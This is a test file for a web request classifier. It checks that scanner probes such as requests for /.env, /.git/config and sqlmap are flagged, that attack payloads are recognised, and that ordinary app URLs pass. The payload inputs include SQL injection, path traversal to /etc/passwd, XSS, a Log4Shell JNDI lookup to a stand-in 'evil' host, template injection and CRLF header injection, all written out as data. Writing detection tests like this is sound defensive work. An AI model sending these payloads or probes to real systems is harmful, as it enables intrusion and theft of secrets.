import { expect, it } from 'vitest'
import { probeOf } from './probe.ts'

const firefox = 'Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0'

it.each(['/wp-login.php', '/.env', '/.git/config', '/phpmyadmin/', '/cgi-bin/test', '/actuator/health', '/index.asp', '/backup.sql'])('%s looks for holes', (url) =>
  expect(probeOf({ url, userAgent: firefox })).toBe('scanner'),
)

it.each([
  "/contracts/trade?q=1' or '1'='1",
  '/?id=1%20UNION%20SELECT%20password',
  '/files/..%2f..%2fetc%2fpasswd',
  '/?q=%253Cscript%253Ealert(1)',
  '/?x=%24{jndi:ldap://evil}',
  '/?q={{7*7}}',
  '/?next=%0d%0aSet-Cookie:%20a=b',
])('%s carries something to be run', (url) => expect(probeOf({ url, userAgent: firefox })).toBe('payload'))

it('knows the programs by their names', () => expect(probeOf({ url: '/', userAgent: 'sqlmap/1.8' })).toBe('scanner'))

it.each([
  '/',
  '/contracts/trade?q=Piotr i Paweł&sort=number',
  '/contracts/trade/42?tab=files',
  '/assets/index-DvK3.js',
  '/trpc/contracts.trade.list?input={"search":"O\'Neil or sons"}',
  '/help/contracts/umowy',
])('%s is a page of ours', (url) => expect(probeOf({ url, userAgent: firefox })).toBeNull())
